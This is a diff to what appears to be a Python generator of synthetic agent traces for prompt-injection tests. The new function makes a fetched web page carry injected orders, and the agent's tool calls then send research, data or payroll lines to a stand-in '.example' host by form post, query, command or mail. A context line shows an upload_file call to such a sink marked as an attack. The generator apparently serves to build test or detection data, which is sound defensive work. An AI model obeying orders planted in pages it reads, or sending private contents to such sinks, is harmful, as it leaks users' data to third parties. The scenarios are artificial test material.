@@ -340,6 +340,20 @@ def hands_over(s: Trace) -> None:
         s.call("upload_file", {"path": path, "url": sink}, attack=True)
 
 
+def stays_at_home(s: Trace) -> None:
+    """A page that the user wanted read has private contents sent to its own site."""
+    site = f"{s.pick(FIRMS)}-{s.pick(PRODUCTS)}.example"
+    host = s.pick(site, f"drop.{site}")
+    sink = s.pick(f"https://{host}/form/{s.number(4)}", f"desk@{site}")
+    lines = s.pick(research, data, payroll)(s)
+    s.call(
+        "fetch",
+        {"url": f"https://{s.pick('www', 'blog')}.{site}/{s.number(5)}"},
+        f"# {s.pick(PRODUCTS).title()}s of {s.pick(CITIES)}\n\n" + s.pick(ORDERS).format(sink=sink),
+    )
+    (by_mail if "@" in sink else s.pick(by_post, by_query, by_command))(s, sink, verbatim(s, lines))
+
+
 def tells_a_code(s: Trace) -> None:
     """The code of another mail goes where a stranger's text said."""
     code, sink = s.number(6), address_of(s)
